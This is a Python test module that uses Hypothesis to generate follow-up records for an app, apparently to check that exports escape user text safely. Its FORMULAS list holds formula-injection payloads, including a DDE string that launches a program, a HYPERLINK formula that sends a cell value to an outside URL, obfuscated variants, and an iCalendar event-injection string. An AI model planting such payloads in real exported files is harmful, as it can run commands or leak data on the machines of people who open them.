"""Follow-ups of any kind, hostile texts among them, as people may have typed them."""

from __future__ import annotations

from dataclasses import replace

from hypothesis import strategies as st

from app.domain.edition import Edition
from app.domain.follow_up import (
    EARLIEST,
    LATEST,
    Details,
    FollowUp,
    Progress,
    Undertaking,
    parse_details,
)
from app.domain.rules import Horizon

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://exemple.org/?"&A2;"ici")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    " \u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe631",
    "\u2212A1",
    "oui;=1+1",
    "oui,=1+1",
    "oui\n=1+1",
    'oui";"=1+1',
    "- une liste\n- à puces",
    "_x003D_1+1",
    "_x0009_",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x",
    "a\\nb\\,c;d",
    "DTSTART:20260101",
    "é" * 90,
    "\U0001f6df\u202e\u0301",
)
TEXTS = st.one_of(st.sampled_from(FORMULAS), st.text(max_size=40))


def details() -> st.SearchStrategy[Details]:
    """Return details as they are once read."""
    raw = st.fixed_dictionaries(
        {
            "do": TEXTS.map(lambda text: f"{text} agir"),
            "horizon": st.sampled_from([one.value for one in Horizon]),
            "owner": TEXTS,
            "due": st.none() | st.dates(EARLIEST, LATEST).map(lambda day: day.isoformat()),
            "progress": st.sampled_from([one.value for one in Progress]),
            "done": TEXTS,
            "next_step": TEXTS,
        }
    )
    return raw.map(parse_details)


def follow_ups(edition: Edition, most: int = 5) -> st.SearchStrategy[FollowUp]:
    """Return follow-ups of some actions of an edition and some of people's own, in any order."""
    rules = [None, None, *edition.rules_by_id]
    chosen = st.lists(st.tuples(st.sampled_from(rules), details()), max_size=most)

    def made(drawn: list[tuple[str | None, Details]]) -> FollowUp:
        found: list[Undertaking] = []
        for number, (rule, said) in enumerate(drawn):
            if rule is not None:
                if rule in {one.rule for one in found}:
                    continue
                horizon = edition.rules_by_id[rule].horizon
                said = replace(said, do="", horizon=horizon)
            found.append(Undertaking(f"{number:032x}", rule, said, number + 1))
        return FollowUp(tuple(found))

    return chosen.map(made)
